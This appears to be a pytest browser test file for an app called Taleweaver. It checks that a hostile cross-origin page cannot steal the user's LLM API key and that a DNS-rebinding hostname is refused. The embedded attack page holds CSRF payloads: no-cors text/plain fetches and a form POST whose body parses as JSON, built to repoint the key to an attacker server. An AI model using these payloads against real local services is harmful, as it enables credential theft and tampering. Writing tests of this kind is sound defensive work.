"""Issue 8 in a real browser: a hostile page on another origin tries to use the user's Taleweaver.

The page is served by an attacker's server on another loopback port (another origin). It runs
what such a page can run without any permission: `fetch(..., {mode: "no-cors"})` with a
text/plain JSON body (no CORS preflight), a readable fetch of the settings, and a form POST with
`enctype="text/plain"` shaped so that its body is valid JSON. The attacker's server records every
request it receives: it must receive no key, and the user's settings and stories stay as they were.
A DNS-rebinding page (a foreign name that resolves to 127.0.0.1, via Chromium's resolver rules)
gets a 403 instead of the app.
"""
from __future__ import annotations

import json

import pytest

from tests.attacker import AttackerServer
from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGS
from tests.browser.flows import wait_until
from tests.fakes import FakeLLMServer
from tests.support import TaleweaverServer, configure_fake

KEY = "sk-user-private-key-browser-attack-987654321"

ATTACK_PAGE = """<!doctype html>
<html><head><title>cute cats</title></head><body>
<h1>Cute cats</h1>
<iframe name="sink" id="sink"></iframe>
<form id="hostile" method="POST" action="{target}/api/settings/llm" enctype="text/plain" target="sink">
<input name='{{"backend_type":"chatgpt","config":{{"base_url":"{attacker}/v1","x":"' value='"}}}}'>
</form>
<script>
window.results = [];
const target = "{target}";
const hostile = JSON.stringify({{backend_type: "chatgpt", config: {{base_url: "{attacker}/v1"}}}});
const story = JSON.stringify({{title: "pwned", prompt: "p", content: "c"}});
const chat = JSON.stringify({{messages: [{{role: "user", content: "spend it"}}], stream: false}});
async function attack() {{
  const simple = [
    ["/api/settings/llm/test", hostile], ["/api/settings/llm", hostile],
    ["/proxy/llm/v1/chat/completions", chat], ["/api/stories", story],
  ];
  for (const [path, body] of simple) {{
    try {{
      await fetch(target + path, {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}}, body}});
      window.results.push("sent " + path);
    }} catch (error) {{ window.results.push("error " + path); }}
  }}
  try {{
    const response = await fetch(target + "/api/settings/llm");
    window.results.push("READ " + await response.text());
  }} catch (error) {{ window.results.push("read blocked"); }}
  document.getElementById("hostile").submit();
  window.results.push("form submitted");
  window.attackDone = true;
}}
attack();
</script></body></html>
"""


@pytest.fixture(scope="module")
def victim():
    server = TaleweaverServer().start()
    backend = FakeLLMServer("chatgpt", api_key=KEY).start()
    configure_fake(server, backend, default_model=backend.models[0], api_key=KEY)
    yield server, backend
    backend.stop()
    server.close()


def state_of(server):
    return server.api("GET", "/api/settings/llm").json(), server.api("GET", "/api/stories").json()


def test_an_attacker_page_on_another_origin_gets_no_key_and_changes_nothing(browser, victim):
    server, backend = victim
    attacker = AttackerServer()
    attacker.pages["/cats.html"] = ATTACK_PAGE.format(target=server.url, attacker=attacker.url)
    attacker.pages["/favicon.ico"] = ""  # the browser's own request, not the attack
    attacker.start()
    before = state_of(server)
    chats_before = [r for r in backend.requests if r["path"].endswith("/chat/completions")]
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(attacker.url + "/cats.html")
        page.wait_for_function("window.attackDone === true", timeout=15_000)
        # The form's POST is the last request: wait until the server has answered it.
        wait_until(lambda: server.log_text().count('"POST /api/settings/llm HTTP') >= 2, "the form POST was answered")
        results = page.evaluate("window.results")
    finally:
        context.close()
        attacker.stop()

    assert "form submitted" in results and "read blocked" in results, results
    assert not any(item.startswith("READ") for item in results), results
    assert attacker.received == [], attacker.received
    assert state_of(server) == before
    assert [r for r in backend.requests if r["path"].endswith("/chat/completions")] == chats_before
    assert KEY not in server.log_text()


def test_a_rebinding_name_gets_403_instead_of_the_app(browser, victim):
    server, _ = victim
    rebinding = browser.browser_type.launch(
        executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP rebind.example 127.0.0.1"]
    )
    try:
        page = rebinding.new_page()
        app = page.goto(f"http://rebind.example:{server.port}/")
        settings = page.goto(f"http://rebind.example:{server.port}/api/settings/llm")
        body = json.loads(page.inner_text("body"))
    finally:
        rebinding.close()

    assert app.status == 403 and settings.status == 403
    assert body["error"]["code"] == "host_not_allowed"
    assert "TALEWEAVER_ALLOWED_HOSTS" in body["error"]["message"]
